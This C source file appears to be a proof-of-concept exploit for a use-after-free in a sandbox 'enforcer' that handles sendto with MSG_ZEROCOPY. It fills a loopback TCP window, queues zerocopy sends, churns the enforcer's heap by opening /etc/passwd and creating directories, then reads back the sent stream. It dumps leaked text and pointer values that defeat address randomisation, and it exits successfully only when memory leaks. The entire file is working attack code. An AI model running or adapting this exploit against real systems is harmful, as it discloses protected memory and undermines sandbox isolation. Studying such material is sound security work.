/* SPDX-License-Identifier: Apache-2.0 */
/* sendto(MSG_ZEROCOPY) with an address is performed by the enforcer from its own heap: the pages
 * are queued, the buffer freed and used again, and what is sent at last is the enforcer's
 * memory. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#define N 65536
int main(void)
{
	int l = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0), s, one = 1,
	    sz = 4096;
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t len = sizeof(a);
	static char fill[N], got[1 << 20];
	size_t total = 0, queued, leaked = 0;
	setsockopt(l, SOL_SOCKET, SO_RCVBUF, &sz, sizeof(sz));
	bind(l, (void *)&a, len);
	listen(l, 8);
	getsockname(l, (void *)&a, &len);
	if (connect(c, (void *)&a, len)) {
		perror("connect");
		return 1;
	}
	s = accept(l, NULL, NULL);
	if (setsockopt(c, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof(one))) {
		perror("SO_ZEROCOPY");
		return 1;
	}
	sz = 4 << 20;
	setsockopt(c, SOL_SOCKET, SO_SNDBUF, &sz, sizeof(sz));
	memset(fill, 'A', N);
	/* close the window */
	while (total < 300000) {
		ssize_t n = send(c, fill, N, MSG_DONTWAIT);
		if (n <= 0)
			break;
		total += (size_t)n;
	}
	queued = total;
	for (int i = 0; i < 4; i++) {
		ssize_t n = sendto(c, fill, N, MSG_ZEROCOPY, (void *)&a, len);
		if (n < 0) {
			perror("sendto");
			break;
		}
		queued += (size_t)n;
	}
	printf("queued %zu, of them %zu by the enforcer\n", queued, queued - total);
	/* let the enforcer use its heap */
	for (int i = 0; i < 200; i++) {
		char p[64];
		struct stat st;
		snprintf(p, 64, "/etc/nothing-%d", i);
		close(open(i & 1 ? "/etc/passwd" : p, O_RDONLY));
		mkdir(p, 0777);
		(void)st;
	}
	shutdown(c, SHUT_WR);
	for (size_t n = 0; n < queued;) {
		ssize_t k = read(s, got + n, sizeof(got) - n);
		if (k <= 0)
			break;
		n += (size_t)k;
		queued = queued > n ? queued : n;
		if (n == queued)
			break;
	}
	for (size_t i = 0; i < queued; i++)
		if (got[i] != 'A')
			leaked++;
	printf("bytes that we never sent: %zu\n", leaked);
	for (size_t i = 0, p = 0; i + 8 < queued && p < 24; i++) {
		/* runs of printable text, and pointers */
		size_t k = i;
		while (k < queued && got[k] >= 32 && got[k] < 127 && got[k] != 'A')
			k++;
		if (k - i >= 8) {
			printf("  text at %zu: %.*s\n", i, (int)(k - i > 90 ? 90 : k - i), got + i);
			p++;
			i = k;
		}
	}
	for (size_t i = 0, p = 0; i + 8 <= queued && p < 6; i += 8) {
		unsigned long v;
		memcpy(&v, got + i, 8);
		if (v >> 40 == 0x7f || v >> 40 == 0x55 || v >> 40 == 0x56) {
			printf("  pointer %#lx\n", v);
			p++;
		}
	}
	return leaked ? 0 : 1;
}
